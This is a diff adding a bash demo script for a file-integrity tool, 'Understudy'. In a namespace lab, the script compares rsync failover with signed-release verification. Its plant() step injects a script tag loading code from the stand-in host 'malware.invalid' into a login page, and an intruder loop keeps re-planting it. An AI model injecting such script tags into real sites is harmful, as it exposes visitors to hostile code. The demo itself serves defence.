@@ -1,0 +1,485 @@
+#!/bin/bash
+# demo.sh - replays 6 July 2009: what visitors received when the stand-by took over the old way, and with Understudy.
+#
+#     understudy demo [--keep] [--json] [--quiet] [--lang en|ja]
+#
+# Real nginx and PHP-FPM as production and stand-by, a visitor who opens pages throughout, the service address moved from
+# one to the other. Nothing is staged but the attack: the numbers are counted from the bodies that the visitor received,
+# by SHA-256, against what production gave before anything was planted; everything unknown counts as tampered.
+#
+# Exit status: 0 when the old way served tampered pages, Understudy none, and what could not be proven was refused;
+# 1 when it went otherwise; 2 wrong use; 3 it could not be done.
+
+# shellcheck source-path=SCRIPTDIR
+# shellcheck disable=SC2154 # word_...: in words.LANGUAGE.sh
+# shellcheck disable=SC2015 # A && B || fail: fail ends the script
+
+set -u
+here=$(cd "$(dirname "$(readlink -f "${BASH_SOURCE[0]}")")" && pwd)
+# shellcheck source=namespaces.sh
+. "$here/namespaces.sh"
+
+# ---------------------------------------------------------------- options, and what must be there
+
+choose_words()
+{
+        local language=${LANGUAGE:-${LC_ALL:-${LC_MESSAGES:-${LANG:-en}}}}
+        [[ ${1:-$language} == ja* ]] && language=ja || language=en
+        # What the commands say, too. C.UTF-8 is on every machine; LANGUAGE chooses the words.
+        export LC_ALL=C.UTF-8 LANGUAGE=$language
+        # shellcheck source=words.en.sh
+        # shellcheck disable=SC2034 # LAB_INTERRUPTED: in namespaces.sh
+        . "$here/words.$language.sh"
+        LAB_INTERRUPTED=$word_interrupted
+}
+
+# shellcheck disable=SC2059
+fail()
+{
+        local status=$1
+        shift
+        printf "understudy: $word_failed\n" "$*" >&2
+        exit "$status"
+}
+
+keep='' json='' quiet=''
+choose_words
+while [[ $# -gt 0 ]]; do
+        case $1 in
+        --keep) keep=yes ;;
+        --json) json=yes ;;
+        --quiet) quiet=yes ;;
+        --lang) [[ $# -gt 1 ]] && choose_words "$2" && shift ;;
+        --help) echo "$word_usage" && exit 0 ;;
+        *) echo "$word_usage" >&2 && exit 2 ;;
+        esac
+        shift
+done
+
+need_programs()
+{
+        local pair missing=()
+        for pair in nginx:nginx-light rsync:rsync ip:iproute2 jq:jq curl:curl unshare:util-linux; do
+                PATH=$PATH:/usr/sbin:/sbin command -v "${pair%%:*}" >/dev/null || missing+=("${pair#*:}")
+        done
+        lab_php_fpm >/dev/null || missing+=(php-fpm)
+        # shellcheck disable=SC2059
+        [[ ${#missing[@]} -eq 0 ]] || fail 3 "$(printf "$word_need_programs" "${missing[*]}")"
+}
+
+PATH=$PATH:/usr/sbin:/sbin
+UNDERSTUDY=${UNDERSTUDY:-understudy}
+UNDERSTUDY_VISITOR=${UNDERSTUDY_VISITOR:-$here/visitor}
+
+if [[ -z ${LAB_FOLDER:-} ]]; then
+        [[ $EUID -eq 0 ]] || fail 3 "$word_need_root"
+        need_programs
+        lab_place >/dev/null || fail 3 "$word_no_place"
+        lab_enter "$keep" "$here/demo.sh" ${keep:+--keep} ${json:+--json} ${quiet:+--quiet} --lang "$LANGUAGE"
+        exit
+fi
+
+# ---------------------------------------------------------------- what is shown
+
+terminal=''
+[[ -t 1 && -z $json && -z $quiet ]] && terminal=yes
+red='' green='' bold='' plain=''
+if [[ -n $terminal && -z ${NO_COLOR:-} ]]; then
+        red=$'\e[31m' green=$'\e[32m' bold=$'\e[1m' plain=$'\e[0m'
+fi
+
+say() { [[ -n $json || -n $quiet ]] || printf '%s\n' "$*"; }
+# shellcheck disable=SC2059
+step() { say "  $(printf "$@")"; }
+heading() { say && say "$bold$1$plain"; }
+command_line() { say "  \$ $*"; }
+
+# Words behind a text, so that all lines stand at the same column; Japanese letters are two columns wide.
+pad()
+{
+        local width
+        width=$(printf '%s' "$2" | wc -L)
+        printf '%s%*s' "$2" "$(($1 > width ? $1 - width : 0))" ''
+}
+
+# One sentence of a command, folded to the terminal.
+quote() { printf '%s\n' "$1" | fold -s -w 72 | sed 's/^/      /'; }
+
+# ---------------------------------------------------------------- the visitor, and the count
+
+service=192.0.2.80
+known=known
+log=visitor.log
+
+# The pages that the visitor opens. He looks for the login page, as on that day.
+pages='/ /login/ /prices.html /login/index.php /news/ /login/ /help/ /contact.php'
+
+# What production gives, before anybody planted anything: path and SHA-256.
+learn_known()
+{
+        local path
+        for path in $(tr ' ' '\n' <<<"$pages" | sort -u); do
+                curl -sf "http://192.0.2.77$path" >page || fail 3 "http://192.0.2.77$path"
+                echo "$path $(sha256sum <page | cut -d' ' -f1)"
+        done >"$known"
+        rm -f page
+}
+
+position() { wc -l <"$log"; }
+
+# count FROM [TO]: of these lines of the visitor's log, four numbers: pages received, of these from the stand-by, of these
+# tampered (all but status 200 and the known bytes of this path), and pages that did not come.
+count()
+{
+        awk -v from="$1" -v to="${2:-0}" '
+                NR == FNR { known[$1] = $2; next }
+                FNR <= from || (to && FNR > to) { next }
+                $2 == 0 { unanswered++; next }
+                { pages++ }
+                $3 == "standby" { standby++ }
+                $2 != 200 || !($5 in known) || known[$5] != $4 { tampered++ }
+                END { print pages + 0, standby + 0, tampered + 0, unanswered + 0 }' "$known" "$log"
+}
+
+# watch SECONDS SERVER FROM: lets the visitor go on, and shows what he has received since FROM.
+watch()
+{
+        local end=$((${EPOCHREALTIME/./} + $1 * 100000)) pages tampered colour text
+        while :; do
+                read -r pages _ tampered _ < <(count "$3")
+                colour=$green
+                [[ $tampered -eq 0 ]] || colour=$red
+                # shellcheck disable=SC2059
+                text=$(printf "$word_served" "$2" "$pages" "$tampered")
+                [[ -z $terminal ]] || printf '\r  %s%s%s' "$colour" "$text" "$plain"
+                [[ ${EPOCHREALTIME/./} -lt $end ]] || break
+                sleep 0.2
+        done
+        if [[ -n $terminal ]]; then echo; else say "  $text"; fi
+}
+
+# A connection may hang for a moment in the move; the visitor is there when a page came from there.
+wait_until_served_by()
+{
+        local end=$((SECONDS + 5))
+        until [[ $(tail -n 1 "$log" | cut -d' ' -f3) == "$1" || $SECONDS -ge $end ]]; do
+                sleep 0.05
+        done
+}
+
+move_to_standby()
+{
+        step "$word_move_standby"
+        lab_address_move "$service" production standby || fail 3 "$service"
+        wait_until_served_by standby
+}
+
+move_to_production()
+{
+        step "$word_move_production"
+        lab_address_move "$service" standby production || fail 3 "$service"
+        wait_until_served_by production
+}
+
+# ---------------------------------------------------------------- the servers, and what was planted
+
+set_times() { find "$1" -exec touch -h -d "$2" {} +; }
+
+# As long ago both servers had the same pages; the news were written since.
+build_sites()
+{
+        mkdir -p production standby public &&
+                cp -r "$here/site" production/site &&
+                chmod -R u=rwX,go=rX production/site &&
+                chown -R root:root production/site &&
+                set_times production/site '2008-03-10 09:00 UTC' &&
+                cp -a production/site standby/site &&
+                touch -d '2009-07-05 18:30 UTC' production/site/news/index.html &&
+                sed -i '/Maintenance on/,+1d' standby/site/news/index.html &&
+                touch -d '2009-05-20 18:30 UTC' standby/site/news/index.html
+}
+
+# By hand, on the stand-by, long before the day.
+plant()
+{
+        cp production/site/lib/templates/login.html planted.html &&
+                sed -i 's|</main>|<script src="http://malware.invalid/x.js"></script>\n&|' planted.html &&
+                cp planted.html standby/site/lib/templates/login.html &&
+                sed -e 's|{title}|Log in|g; s|{action}|/login/|; s|{note}|Your user name is the name of your domain.|' \
+                        planted.html >standby/site/login/index.html &&
+                cp standby/site/login/index.html planted.html &&
+                touch -d '2009-02-14 03:12 UTC' standby/site/login/index.html standby/site/lib/templates/login.html planted.html
+}
+
+start()
+{
+        cd "$LAB_FOLDER" || exit 3
+        heading "$word_title"
+        say
+        say "$word_story"
+        say "  $(pad 25 login/index.html) $word_planted_page"
+        say "  $(pad 25 lib/templates/login.html) $word_planted_template"
+        say "$word_story_end"
+        say
+        say "$word_count"
+        heading "$word_start"
+        lab_network && lab_host production 192.0.2.77 && lab_host standby 192.0.2.78 && lab_host publisher 192.0.2.70 &&
+                lab_address production "$service" || fail 3 'ip'
+        build_sites || fail 3 "$LAB_FOLDER"
+        lab_serve production "$LAB_FOLDER/production/site" && lab_serve standby "$LAB_FOLDER/standby/site" &&
+                lab_serve publisher "$LAB_FOLDER/public" || fail 3 'nginx, php-fpm'
+        step "$word_servers" 192.0.2.77 192.0.2.78
+        learn_known
+        plant || fail 3 "$LAB_FOLDER"
+        tr ' ' '\n' <<<"$pages" >pages
+        : >"$log"
+        "$UNDERSTUDY_VISITOR" --pause 8 "http://$service" pages "$log" &
+        step "$word_visitors" "http://$service"
+        watch 15 "$word_production" 0
+        act1_start=$(position)
+}
+
+# ---------------------------------------------------------------- act 1
+
+act1()
+{
+        local copied
+        heading "$word_act1"
+        command_line rsync -au --out-format=%n production/site/ standby/site/
+        copied=$(rsync -au --out-format=%n production/site/ standby/site/ | grep -v '/$')
+        if [[ -n $copied ]]; then step "$word_copied" "$copied"; else step "$word_copied_nothing"; fi
+        step "$word_old_believed"
+        move_to_standby
+        watch 40 "$word_standby" "$act1_start"
+        move_to_production
+        act2_start=$(position)
+}
+
+# ---------------------------------------------------------------- act 2
+
+# understudy_run HOST ARGUMENT...: shows the command and runs it there; its JSON is in `answer`, its words in `words`.
+understudy_run()
+{
+        local host=$1
+        shift
+        command_line understudy "$@"
+        UNDERSTUDY_STATE=$LAB_FOLDER/$host/state lab_in "$host" "$UNDERSTUDY" "$@" --json >answer 2>words
+}
+
+# What differs, a line a path.
+show_differences()
+{
+        local path kind what
+        while IFS=$'\t' read -r path kind; do
+                # shellcheck disable=SC2059
+                case $kind in
+                extra) what=$word_extra ;;
+                content) what=$word_content ;;
+                *) what=$(printf "$word_other" "$kind") ;;
+                esac
+                say "    $(pad 25 "$path") $what"
+        done < <(jq -r "$1"' | .differences[] | [.path, .kind] | @tsv' answer)
+}
+
+admit_standby()
+{
+        understudy_run standby verify standby/site --pub standby/release.pub
+}
+
+act2()
+{
+        local status release files
+        heading "$word_act2"
+        mkdir -p publisher keys
+        "$UNDERSTUDY" keygen keys --no-password >/dev/null 2>words || fail 3 "$(cat words)"
+        understudy_run publisher publish production/site --repo public/repository --key keys/release.key ||
+                fail 3 "$(cat words)"
+        cp keys/release.pub standby/release.pub
+        release=$(jq .release answer) files=$(jq .files answer)
+        step "$word_published" "$release" "$files"
+
+        understudy_run standby verify standby/site --repo http://192.0.2.70/repository --pub standby/release.pub --release 1
+        status=$?
+        [[ $status -eq 1 ]] || fail 3 "$(cat words)"
+        step "$word_verify_before"
+        show_differences .
+        cp answer found
+
+        understudy_run standby pull standby/site --repo http://192.0.2.70/repository --pub standby/release.pub --adopt
+        status=$?
+        [[ $status -le 1 ]] || fail 3 "$(cat words)"
+        evidence=$(jq -r '.evidence // ""' answer)
+        step "$word_pulled"
+
+        if admit_standby; then
+                step "$green$word_proven$plain" "$(jq .files answer)" "$(jq .release answer)"
+                move_to_standby
+                watch 40 "$word_standby" "$act2_start"
+                move_to_production
+        else
+                step "$red$word_not_proven$plain" 1
+                show_differences .
+        fi
+        act3_start=$(position)
+}
+
+# ---------------------------------------------------------------- act 3
+
+# Not part of anything that is shown: he works in the dark.
+intruder()
+{
+        while :; do
+                cp -p planted.html standby/site/login/index.html 2>/dev/null
+                sleep 0.02
+        done
+}
+
+# Moves nobody, unless the stand-by is proven.
+move_if_proven()
+{
+        local status
+        admit_standby
+        status=$?
+        if [[ $status -eq 0 ]]; then
+                step "$red$word_not_refused$plain"
+                act3_refused=false
+                return
+        fi
+        step "$word_not_proven" "$status"
+        show_differences .
+        step "$green$word_refused$plain"
+}
+
+act3_page_comes_back()
+{
+        local status intruder
+        step "$word_intruder"
+        intruder &
+        intruder=$!
+        sleep 0.1
+        understudy_run standby pull standby/site --repo http://192.0.2.70/repository --pub standby/release.pub
+        status=$?
+        [[ $status -le 1 ]] && step "$word_pulled_again" "$status"
+        sleep 0.3
+        move_if_proven
+        kill "$intruder"
+        wait "$intruder" 2>/dev/null
+}
+
+# The repository's server is not trusted either.
+act3_foreign_release()
+{
+        local status
+        step "$word_foreign"
+        mkdir -p foreign-keys && cp -a standby/site foreign-site &&
+                "$UNDERSTUDY" keygen foreign-keys --no-password >/dev/null 2>&1 &&
+                mv public/repository public/genuine &&
+                "$UNDERSTUDY" publish foreign-site --repo public/repository --key foreign-keys/release.key >/dev/null 2>&1 ||
+                fail 3 "$word_foreign"
+        understudy_run standby pull standby/site --repo http://192.0.2.70/repository --pub standby/release.pub
+        status=$?
+        step "$word_foreign_refused" "$status"
+        say "$(quote "$(sed 's/^understudy: //' words | tail -1)")"
+        if [[ $status -ge 3 ]]; then step "$green$word_refused$plain"; else act3_refused=false; fi
+}
+
+act3()
+{
+        act3_refused=true
+        heading "$word_act3"
+        act3_page_comes_back
+        act3_foreign_release
+        watch 15 "$word_production" "$act3_start"
+        act3_end=$(position)
+}
+
+# ---------------------------------------------------------------- the end
+
+row()
+{
+        local numbers
+        read -ra numbers <<<"$2"
+        say "  $(pad 24 "$1") $(printf '%13d %11d %9d %10d' "${numbers[@]}")"
+}
+
+table()
+{
+        local head
+        IFS='|' read -ra head <<<"$word_table_head"
+        say "$bold  $(pad 24 '') $(right 13 "${head[1]}") $(right 11 "${head[2]}") $(right 9 "${head[3]}") $(right 10 "${head[4]}")$plain"
+        row "$word_row_before" "$(count 0 "$act1_start")"
+        row "$word_row_act1" "$(count "$act1_start" "$act2_start")"
+        row "$word_row_act2" "$(count "$act2_start" "$act3_start")"
+        row "$word_row_act3" "$(count "$act3_start" "$act3_end")"
+}
+
+right()
+{
+        local width
+        width=$(printf '%s' "$2" | wc -L)
+        printf '%*s%s' "$(($1 > width ? $1 - width : 0))" '' "$2"
+}
+
+# Looked at here, because it will not stay: the first planted line that is kept as evidence.
+show_evidence()
+{
+        local line file number text
+        heading "$word_where_evidence"
+        say "  ${evidence/#$LAB_FOLDER\//}"
+        line=$(grep -rn -m1 -F malware.invalid "$evidence" --include=index.html | head -1)
+        [[ -n $line ]] || return
+        IFS=: read -r file number text <<<"$line"
+        step "$word_evidence_line" "$number" "${file/#$evidence\//}"
+        say "      ${text:0:70}"
+        if [[ -n $keep ]]; then
+                step '%s' "$LAB_FOLDER"
+                step "$word_kept"
+        else
+                step "$word_removed"
+        fi
+}
+
+print_json()
+{
+        # shellcheck disable=SC2046
+        jq -n --argjson good "$1" --argjson refused "$act3_refused" --slurpfile found found --arg evidence "$evidence" '
+                def act($name; $a): {act: $name, pages: $a[0], standby: $a[1], tampered: $a[2], unanswered: $a[3]};
+                {good: $good, refused: $refused,
+                 acts: [act("before"; $ARGS.positional[0:4]), act("rsync"; $ARGS.positional[4:8]),
+                        act("understudy"; $ARGS.positional[8:12]), act("not proven"; $ARGS.positional[12:16])],
+                 found: $found[0].differences, evidence: $evidence}' \
+                --jsonargs $(count 0 "$act1_start") $(count "$act1_start" "$act2_start") \
+                $(count "$act2_start" "$act3_start") $(count "$act3_start" "$act3_end")
+}
+
+finish()
+{
+        local good=false old new last
+        read -ra old < <(count "$act1_start" "$act2_start")
+        read -ra new < <(count "$act2_start" "$act3_start")
+        read -ra last < <(count "$act3_start" "$act3_end")
+        # That the stand-by did serve in act 2, and nobody in act 3, belongs to it.
+        if [[ ${old[2]} -gt 0 && ${new[1]} -gt 0 && ${new[2]} -eq 0 && ${last[1]} -eq 0 && ${last[2]} -eq 0 &&
+                $act3_refused == true ]]; then
+                good=true
+        fi
+        say
+        table
+        heading "$word_found"
+        cp found answer && show_differences .
+        show_evidence
+        say
+        if [[ $good == true ]]; then
+                say "$bold$(printf "$word_good" "${old[2]}" "${new[2]}")$plain"
+        else
+                say "$red$word_bad$plain"
+        fi
+        [[ -z $json ]] || print_json "$good"
+        [[ $good == true ]]
+}
+
+start
+act1
+act2
+act3
+finish
